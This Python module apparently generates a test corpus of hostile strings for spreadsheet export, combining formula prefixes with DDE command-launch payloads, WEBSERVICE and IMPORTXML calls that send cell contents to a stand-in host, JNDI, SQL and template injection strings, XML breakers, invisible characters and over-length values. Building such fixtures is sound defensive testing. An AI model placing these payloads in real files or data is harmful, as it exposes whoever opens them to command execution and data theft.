"""Texts that have come to life, or broken a file, in some spreadsheet: over five hundred, each a value of its own."""

from __future__ import annotations

from itertools import product

_FORMULAS = (
    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")', 'HYPERLINK("http://x.id","klik")'),
    *('WEBSERVICE("http://x.id/?"&A1)', 'IMPORTXML("http://x.id","//a")', "rundll32|'URL.dll,OpenURL calc.exe'!A"),
    *("1+1\nSITI", "'[lain.xlsx]DATA'!A1", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "SUM(1)*cmd|' /C calc'!A0", "A1"),
)
_STARTS = (
    *(
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u00a0=",
        "\u200b=",
        "\ufeff=",
        "'=",
        '"=',
        ";=",
        ",=",
        "|=",
        "{=",
    ),
    *(
        "=+",
        "-+",
        "@=",
        "%=",
        "＝",
        "＋",
        "－",
        "＠",
        "﹦",
        "−",
        "=\u202e",
        "\u202e=",
        "\x00=",
        "\x0b=",
        "\x1f=",
        "+-=",
    ),
)
_SIGNS = tuple(
    chr(sign) for sign in (*range(0x20), 0x7F, 0x80, 0x85, 0x9F, 0xAD, 0xFFFD, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF)
)
_UNSEEN = (
    *("\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2060"),
    *("\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u00a0", "\u2028", "\u2029", "\u3000", "\ufe0f", "\u034f"),
)
_MARKUP = (
    *(
        "<r>tebal</r>",
        "<r><t>x</t></r>",
        "<t>",
        "</t></is></c>",
        "<c><f>1+1</f></c>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
    ),
    *("&amp;", "&lt;f&gt;", "&#0;", "&#x3D;1+1", "_x003D_1+1", "_x0000_", "_x005F_x003D_", "_x000D_", "<?xml?>", "&"),
    *('"', "''", '""', "'", "`", "\\", "\\0", "%00", "a;b", "a,b", "a|b", 'a"b;c', "a\nb", "a\r\nb", "a\tb", "  dua  "),
    *("{desa}", "{0}", "{{7*7}}", "${jndi:ldap://x}", "'; DROP TABLE x;--", "#REF!", "#N/A", "NULL", "TRUE", "1E+15"),
    *(
        "00123",
        "3516010101900001",
        "1/2",
        "12-05-1990",
        "https://x.id",
        "mailto:a@x.id",
        "internal:DATA!A1",
        "file:///etc",
    ),
)
_SCRIPTS = (
    *(
        "ЅІТІ",
        "SΙΤΙ",
        "ｓｉｔｉ",
        "Ñandú",
        "n\u0303",
        "İıİ",
        "ß" * 40,
        "👩‍👩‍👧",
        "𝐒𝐈𝐓𝐈",
        "ꦱꦶꦠꦶ",
        "سيتي",
        "שיתי",
        "סיab",
        "e" + "\u0301" * 30,
    ),
    *("A" * 255, "B" * 256, "C" * 8_191, "D" * 8_192, "E" * 16_384, "F" * 32_766, "G" * 32_767, "🦄" * 16_383),
    *("kata " * 6_000, "=" * 300, "\n" * 200 + "x", "'" * 300),
)


def hostile_texts() -> list[str]:
    """The texts, in a fixed order; none is blank, and no cell of a workbook is too short for one."""
    texts = [f"{start}{formula}" for start, formula in product(_STARTS, _FORMULAS)]
    texts += [form.format(sign) for sign in (*_SIGNS, *_UNSEEN) for form in ("{}SITI", "SI{}TI")]
    return list(dict.fromkeys([*texts, *_MARKUP, *_SCRIPTS]))
